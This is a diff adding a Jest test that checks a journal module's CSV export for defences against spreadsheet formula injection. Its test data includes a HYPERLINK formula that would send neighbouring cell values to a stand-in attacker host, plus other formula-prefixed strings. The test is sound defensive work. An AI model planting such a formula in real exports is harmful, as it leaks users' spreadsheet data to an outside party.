@@ -121,4 +121,28 @@ describe('journal', () => {
     expect(rest).toEqual(['']);
     expect((await journal.exportDay('2025-01-04')).csv.split('\r\n')).toHaveLength(2);
   });
+
+  it('neutralises CSV cells that a spreadsheet would run as a formula; the JSON keeps the code as scanned', async () => {
+    const { journal } = await fresh(() => new Date(2025, 0, 5, 9));
+    const formula = '=HYPERLINK("http://evil.example/?"&K2&L2,"Open")';
+    await journal.record(draft('a-1', 'click', formula));
+    await journal.record(draft('a-2', 'click', '+998901234567'));
+    await journal.record(draft('a-3', 'click', '@SUM(A1)'));
+    await journal.record(draft('a-4', 'click', '-2+3'));
+    await journal.record(draft('a-5', 'click', '\t=1+1'));
+    await journal.record(draft('a-6', 'click', '\r=1+1'));
+    const { json, csv } = await journal.exportDay('2025-01-05');
+    expect((JSON.parse(json) as { detail: string }[]).map((a) => a.detail)).toEqual([
+      formula,
+      '+998901234567',
+      '@SUM(A1)',
+      '-2+3',
+      '\t=1+1',
+      '\r=1+1',
+    ]);
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&K2&L2,""Open"")"`);
+    for (const cell of [`"'+998901234567"`, `"'@SUM(A1)"`, `"'-2+3"`, `"'\t=1+1"`, `"'\r=1+1"`]) expect(csv).toContain(cell);
+    // No cell of the file starts with a formula character.
+    expect(csv).not.toMatch(/(^|,)"[=+\-@\t\r]/m);
+  });
 });
